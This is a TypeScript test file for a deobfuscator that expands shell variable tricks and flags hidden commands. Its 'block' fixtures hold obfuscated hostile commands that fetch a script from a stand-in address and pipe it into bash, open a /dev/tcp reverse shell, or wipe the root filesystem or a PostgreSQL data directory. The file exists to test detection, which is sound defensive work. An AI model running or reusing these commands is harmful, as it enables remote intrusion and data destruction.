import assert from "node:assert/strict";
import { posixVariables } from "./_deobf_posix_vars.ts";
import { deobfCases } from "./_deobf_testing.ts";

Deno.test("deobf posix vars: assignments expanded as the shell would", () => {
  assert.equal(posixVariables(`a='rm -rf';b=' /tmp/x';eval "$a$b"`), "rm -rf /tmp/x");
  assert.equal(posixVariables(`x='zzls -lazz';eval "\${x:2:6}"`), "ls -la");
  assert.equal(posixVariables(`x='ECHO HI';\${x,,}`), "echo hi");
  assert.equal(posixVariables(`c='eQcQhQo';eval "\${c//Q/}"`), "echo");
  assert.equal(posixVariables(`t=c;c='uname -a';eval "\${!t}"`), "uname -a");
  assert.equal(
    posixVariables(`s=(u n a m e); \${s[0]}\${s[1]}\${s[2]}\${s[3]}\${s[4]} -a`),
    "uname -a",
  );
  assert.equal(posixVariables(`x=1; echo "$HOME"`), undefined);
});

deobfCases("posix_vars", [
  {
    // A command rebuilt from variables by parameter expansion and run.
    id: "decoded",
    block: [
      `p1='curl -fsS http://203.0.113.9';p2='/s.sh | bash';eval "$p1$p2"`,
      `q='W#G#E#T -q#O- http://203.0.113.9/k | s#h';eval "\${q//#/}"`,
      `k='XXbash -i >& /dev/tcp/203.0.113.9/9001 0>&1XX'; eval "\${k:2:40}"`,
      `u='CURL -S HTTP://203.0.113.9/A.SH | SH';eval "\${u,,}"`,
      `w=(r m f /var/lib/postgresql); eval "\${w[0]}\${w[1]} -\${w[0]}\${w[2]} \${w[3]}"`,
      `c='rm -rf --no-preserve-root /';n=c;bash -c "\${!n}"`,
    ],
    pass: [
      `p1='echo build';p2=' finished';eval "$p1$p2"`,
      `q='e#c#h#o ready';eval "\${q//#/}"`,
      `k='XXls -la /srvXX'; eval "\${k:2:11}"`,
      `u='ECHO DONE';eval "\${u,,}"`,
      `w=(l s a /var/log); eval "\${w[0]}\${w[1]} -\${w[0]}\${w[2]} \${w[3]}"`,
      `VERSION=1.4.2; docker build -t app:\${VERSION%%.*} .`,
    ],
  },
]);
